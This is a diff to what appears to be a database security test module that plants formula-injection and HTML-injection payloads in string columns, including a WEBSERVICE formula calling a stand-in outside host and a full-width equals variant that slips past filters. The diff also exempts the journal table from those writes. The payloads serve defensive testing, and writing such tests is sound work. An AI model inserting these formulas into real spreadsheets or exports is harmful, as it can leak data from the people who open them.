@@ -6,6 +6,7 @@ from collections.abc import Iterator, Mapping
 from sqlalchemy import Enum, String, Table, bindparam, select, update
 
 from db.base import Base
+from db.models.journal import JournalEntry
 from db.unit_of_work import UnitOfWork
 
 # Where the payload stands is told in it: {m} is a word of its own for each table, column and row.
@@ -27,7 +28,7 @@ PAYLOADS = (
     '=WEBSERVICE("http://example.uz/{m}")',
     "http://example.uz/={m}",
     '"={m}+1"',
-    "＝{m}+1",  # noqa: RUF001  # the wide sign of the East
+    "＝{m}+1",  # the wide sign of the East
 )
 # Beside them what a paper might take for its own marks.
 MARKS_UP = ('<b>{m}</b><a href="http://example.uz">', "&lt;{m}&amp;%s{{0}}")
@@ -44,6 +45,8 @@ def free_columns() -> list[str]:
     return [
         f"{table.name}.{column.name}"
         for table in Base.metadata.sorted_tables
+        # Nothing changes what the journal says.
+        if table is not JournalEntry.__table__
         for column in table.columns
         if isinstance(column.type, String)
         and not isinstance(column.type, Enum)
